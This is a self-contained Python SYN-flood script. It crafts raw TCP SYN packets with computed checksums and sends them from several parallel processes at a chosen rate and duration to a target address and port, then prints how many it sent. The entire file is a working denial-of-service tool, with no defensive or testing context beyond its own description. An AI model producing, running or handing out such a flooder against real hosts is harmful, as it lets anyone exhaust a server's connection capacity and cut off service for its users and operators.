"""Opens connections without end by raw packets: syn_flood.py ADDRESS PORT PER_SECOND SECONDS SENDERS. Prints a JSON line: how many were sent, how long it took."""
import json, multiprocessing, socket, struct, sys, time

address, port, per_second, seconds, senders = sys.argv[1], *map(int, sys.argv[2:])
family = socket.AF_INET6 if ":" in address else socket.AF_INET
SOURCE_PORTS = 512


def own_address():
    with socket.socket(family, socket.SOCK_DGRAM) as probe:
        probe.connect((address, port))
        return socket.inet_pton(family, probe.getsockname()[0])


def checksum(octets):
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, source_port):
    header = struct.pack("!HHIIBBHHH", source_port, port, 1, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + socket.inet_pton(family, address) + struct.pack("!II", len(header), socket.IPPROTO_TCP)
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


def send(number, sent):
    source = own_address()
    packets = [syn(source, 20_000 + number * SOURCE_PORTS + i) for i in range(SOURCE_PORTS)]
    count = 0
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        began = time.monotonic()
        while (passed := time.monotonic() - began) < seconds:
            due = int(passed * per_second / senders)
            if due <= count:
                time.sleep(0.001)
            for _ in range(min(due - count, 256)):
                try:
                    raw.sendto(packets[count % SOURCE_PORTS], (address, 0))
                except PermissionError:
                    pass  # refused
                count += 1
    sent.put(count)


sent = multiprocessing.Queue()
began = time.monotonic()
processes = [multiprocessing.Process(target=send, args=(number, sent)) for number in range(senders)]
for process in processes:
    process.start()
total = sum(sent.get() for _ in processes)
print(json.dumps({"sent": total, "seconds": time.monotonic() - began}))
